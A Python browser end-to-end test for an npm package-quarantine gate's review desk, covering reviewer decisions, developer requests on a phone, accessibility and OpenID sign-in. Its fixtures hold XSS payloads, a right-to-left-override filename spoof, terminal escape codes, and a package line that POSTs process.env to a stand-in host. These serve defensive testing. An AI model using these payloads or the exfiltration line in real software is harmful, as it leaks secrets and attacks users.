#!/usr/bin/env python3
"""The desk and the gate's own pages in a real Chromium: a reviewer's morning, a developer's request on a phone, signing in at a real OpenID
provider, hostile text of packages. axe-core finds nothing serious on any page. Pictures are kept (NPM_GATE_SCREENSHOTS, else build/screenshots);
those of docs/desk.md are made anew with NPM_GATE_DOC_IMAGES=docs/images."""

import os
import pathlib
import shutil
import sys
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "support"))
# pylint: disable=wrong-import-position
import case
import identity
import wire
from browser import Browser, is_installed
from fixture_registry import FixtureRegistry, Package, Release, days_ago
from gate import Gate, run

POLICY = """\
version: 1
rules:
  - { id: new-hooks, when: { finding: [install-script-added] }, then: quarantine, message: "Runs new code on install." }
  - { id: cooldown, when: { younger_than: 24h, not: { package: [steady] } }, then: quarantine }
  - { id: by-hand, when: { package: [store], younger_than: 30d }, then: quarantine, message: "Somebody reads each release of this." }
"""
HOOK = {"scripts": {"postinstall": "node hook.js"}}
# What a package can write: markup, another script, another direction, terminal codes, and more than fits.
NASTY = "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 2'>\u202egnp.exe\u202c\x1b[31m" + "W" * 10_000
DOC_IMAGES = ("queue", "release", "diff", "package")
NASTY_FILE = "lib/" + "<svg onload=alert(1)>" + "n" * 60 + "\u202e.js"


LIST = "const fs = require('fs');\nmodule.exports = fs.readdirSync('.');\n"
POST = "const https = require('https');\nhttps.request({ host: 'collect.example', method: 'POST' }).end(JSON.stringify(process.env));\n"
MINIFIED = "".join(f"function f{i}(a){{return a+{i}}}" for i in range(80)) + "module.exports=f1;\n"


def held(name, code="module.exports = 1;\n", files=None, manifest=None, **more):
    """A package with a release that waits for a reviewer."""
    return Package(name, [Release("1.0.0", days_ago(300), files={"index.js": "module.exports = 0;\n", "README.md": "# " + name + "\n"}),
                          Release("1.1.0", days_ago(3), manifest={**(HOOK if manifest is None else manifest), **more},
                                  files={"index.js": code, "hook.js": "require('./index.js');\n", "README.md": "# " + name + ", once more\n",
                                         **(files or {})})])


def ten_kinds():
    """Held releases, each for another reason or with another change."""
    return [held("left", LIST), held("right"), held("@acme/tool", POST), held("esbuild-like", files={"bin/tool.bin": b"\x7fELF" + bytes(range(256)) * 8}),
            held("logger", dependencies={"left": "^1.0.0"}), held("parser", MINIFIED), held("queue", bin={"queue": "index.js"}),
            held("store", manifest={}), held("nasty", "/* " + NASTY[:3000] + " */\n", description=NASTY, license=NASTY[:200], author=NASTY[:300]),
            Package("young", [Release("1.0.0", days_ago(200)), Release("1.0.1", days_ago(0.2))])]


@unittest.skipUnless(is_installed(), "not installed: chromium chromium-driver (scripts/install-packages.sh browser)")
class InABrowser(case.EndToEnd):
    """One gate, one registry; each test its own browser."""

    def setUp(self):
        self.registry = self.enterContext(FixtureRegistry())
        packages = ten_kinds()
        for package in packages:
            self.registry.add(package)
        self.provider = self.enterContext(identity.Identity())
        self.gate = self.enterContext(Gate(self.registry.url, policy=POLICY, settings={"admin": self.provider.settings()},
                                           env={"DESK_SECRET": "a&secret: of tests"}))
        self.token = self.gate.command("token", "create", "rita", "--scope", "review").stdout.strip()
        for package in packages:
            self.assertEqual(self.gate.versions(package.name), ["1.0.0"], package.name)
        self.desk = self.gate.admin_url + "desk"

    def check(self, browser, name=None):
        """The page is fit for everybody, and hostile text did nothing."""
        self.assertEqual(browser.faults(), [], browser.url())
        self.assertIsNone(browser.script("return window.pwned"))
        self.assertEqual(browser.complaints(), [], browser.url())
        self.assertIn(browser.barriers(), ([], None), browser.url())
        if name:
            path = browser.picture(name)
            if name in DOC_IMAGES and os.environ.get("NPM_GATE_DOC_IMAGES"):
                shutil.copy(path, pathlib.Path(os.environ["NPM_GATE_DOC_IMAGES"]) / f"desk-{name}.png")

    def sign_in(self, browser):
        """As rita."""
        browser.open(self.desk)
        self.check(browser, f"login-{browser.width}")
        browser.type("#token", self.token)
        browser.press("main button")

    def test_a_reviewers_morning(self):
        """Ten held releases, two requests, one bulk decision, one approved, one reopened; every page of the desk, wide and dark and narrow."""
        for name, reason in (("left", "the release of Thursday needs it"), ("right", "<b>please</b>")):
            asked = run("request", f"{name}@1.1.0", "--reason", reason, "--project", "shop", "--gate", self.gate.url)
            self.assertEqual(asked.returncode, 0, asked.stderr)
        with Browser() as browser:
            self.sign_in(browser)
            wire.eventually(lambda: browser.open(self.desk) or browser.text().count("@1.1.0") == 9)
            queue = browser.text("main")
            self.assertLess(queue.index("left@1.1.0"), queue.index("@acme/tool@1.1.0"), "what is asked for comes first")
            self.check(browser, "queue")
            for name in ("logger", "parser"):
                browser.press(f"input[value='{name}@1.1.0']")
            browser.type("input[name=reason]", "both read, SEC-12")
            browser.press("button[value=approve]")
            browser.wait_for("Approve 2 releases?")
            self.assertIn("latest moves from 1.0.0 to 1.1.0", browser.text("main"))
            self.check(browser, "decide")
            browser.press("button.approve")
            browser.wait_for("Approved: 2 releases.")
            self.assertNotIn("parser@1.1.0", browser.text("main"))
            for name in ("logger", "parser"):
                self.assertEqual(self.gate.versions(name), ["1.0.0", "1.1.0"])
            # With the keyboard alone.
            browser.tab_to("input[value='queue@1.1.0']")
            browser.keys(" ")
            browser.tab_to("input[name=reason]")
            browser.keys("not ours, SEC-14")
            browser.tab_to("button[value=reject]")
            browser.keys("\ue007")
            browser.wait_for("Reject 1 release?")
            browser.tab_to("button.reject")
            browser.keys("\ue007")
            browser.wait_for("Rejected: 1 release.")
            browser.open(self.desk + "?sort=risk&severity=high&only=install")
            browser.wait_for("left@1.1.0")
            self.assertNotIn("young@1.0.1", browser.text("main"))
            self.check(browser, "queue-filtered")
            browser.open(self.desk)
            browser.follow("left@1.1.0")
            browser.wait_for("the release of Thursday needs it")
            browser.wait_for("hook.js")
            self.check(browser, "release")
            browser.script("document.querySelector('details.file').scrollIntoView()")
            self.check(browser, "diff")
            browser.type("#reason", "read every line, SEC-13")
            browser.press("button.approve")
            self.assertEqual(self.gate.versions("left"), ["1.0.0", "1.1.0"])
            browser.open(self.desk + "/releases/left/1.1.0")
            browser.type("#reason", "once more, please")
            browser.press("button[value=reopen]")
            self.assertEqual(self.gate.versions("left"), ["1.0.0"])
            for path, words in (("requests?state=all", "approved by rita"), ("packages/left", "Releases, newest first"), ("search?q=SEC-13", "approve of"),
                                ("policy", "new-hooks"), ("state", "Sandbox"), ("audit?kind=decision", "SEC-12"),
                                ("downloads?package=left", "Nobody fetched"), ("releases/nasty/1.1.0", "hook.js"), ("packages/nasty", "1.1.0")):
                browser.open(f"{self.desk}/{path}")
                browser.wait_for(words)
                self.check(browser, "package" if path == "packages/left" else path.partition("?")[0].replace("/", "-"))
            browser.open(self.desk)
            browser.keys("\ue004\ue007")  # Tab, Enter: the first stop is the way past the navigation
            self.assertTrue(browser.url().endswith("#content"), browser.url())
        with Browser(width=390, height=844, dark=True) as phone:
            self.sign_in(phone)
            for path in ("", "/releases/right/1.1.0", "/requests", "/packages/nasty", "/search?q=left", "/policy", "/state", "/releases/nasty/1.1.0"):
                phone.open(self.desk + path)
                self.check(phone, "phone" + path.partition("?")[0].replace("/", "-"))

    def test_a_developers_request_on_a_phone(self):
        """The URL that a client prints opens as a page; asked, joined by another, answered with another version to take."""
        tarball = self.gate.url + "left/-/left-1.1.0.tgz"
        with Browser(width=390, height=844) as phone:
            phone.open(tarball)
            phone.wait_for("left@1.1.0 is quarantined")
            self.assertIn("Served instead: left@1.0.0", phone.text())
            self.check(phone, "phone-refused")
            phone.type("#reason", "a <script>alert(1)</script> build")
            phone.type("#project", "shop")
            phone.press("button")
            phone.wait_for("You asked for it.")
            self.assertIn("/-/r/left@1.1.0", phone.url())
            shown = self.gate.get("/-/r/left@1.1.0", {"Accept": "text/html"})
            self.assertEqual(shown.header("refresh"), "30", "the page looks for the answer by itself")
            self.assertFalse(phone.has("textarea"), "and has no field whose words a reload would take")
            self.check(phone, "phone-asked")
            phone.follow("Add to what you said")
            phone.wait_for("it does not do so by itself while you write")
            self.assertIsNone(self.gate.get("/-/r/left@1.1.0?ask=1", {"Accept": "text/html"}).header("refresh"))
            self.check(phone, "phone-writing")
            joined = run("request", "left@1.1.0", "--reason", "me too", "--gate", self.gate.url, "--project", "site")
            self.assertIn("others ask for it too", joined.stdout)
            with Browser() as browser:
                self.sign_in(browser)
                browser.open(self.desk + "/releases/left/1.1.0")
                browser.wait_for("me too")
                self.check(browser, "request")
                browser.type("input[name=reason]", "1.1.0 is being looked at")
                browser.press("button[value=instead]")
                browser.wait_for("Take 1.0.0 instead")
            phone.open(self.gate.url + "-/r/left@1.1.0")
            phone.wait_for("1.1.0 is being looked at")
            self.assertIn("Take left@1.0.0 instead", phone.text())
            self.check(phone, "phone-answered")
            phone.open(self.gate.url + "-/npm-gate/refusals")
            phone.wait_for("left@1.1.0")
            self.check(phone, "phone-refusals")
            phone.open(self.gate.url + "-/r/nasty@1.1.0")
            phone.wait_for("quarantine")
            self.check(phone, "phone-nasty")
        # Dark, as many read at night.
        with Browser(width=390, height=844, dark=True) as phone:
            for path in ("-/r/left@1.1.0", "-/npm-gate/held/left", "-/npm-gate/refusals", "-/npm-gate/"):
                phone.open(self.gate.url + path)
                self.check(phone)
        trail = [line for line in self.gate.command("log", "--kind", "request").stdout.splitlines() if "left@1.1.0" in line]
        self.assertEqual(len(trail), 3, trail)

    @unittest.skipIf(identity.modules() is None, "not installed: an OpenID provider (scripts/install-desk-tools.sh)")
    def test_signing_in_at_a_provider(self):
        """To the provider's own pages and back, with the cookies as a browser keeps them; a provider that is down; signing out."""
        with Browser() as browser:
            browser.open(self.desk + "/requests")
            browser.follow("Sign in at 127.0.0.1")
            browser.wait_for("Signing in is not possible now")
            self.check(browser, "provider-down")
            self.provider.start([self.gate.admin_url + "desk/signed-in"])
            browser.open(self.desk + "/requests")
            wire.eventually(lambda: browser.follow("Sign in at 127.0.0.1") or browser.has("input[name=login]") or browser.open(self.desk))
            browser.type("input[name=login]", "rita")
            browser.type("input[name=password]", "any")
            browser.press("button[type=submit]")
            browser.press("button[type=submit]")
            browser.wait_for("sso:rita")
            wire.eventually(lambda: "/desk" in browser.url() and "signed-in" not in browser.url())
            browser.wait_for("Sign out")
            browser.complaints()  # of the provider's pages, which load fonts from elsewhere
            self.check(browser, "signed-in")
            browser.press("header button")
            browser.wait_for("Review or admin token")


if __name__ == "__main__":
    case.main()
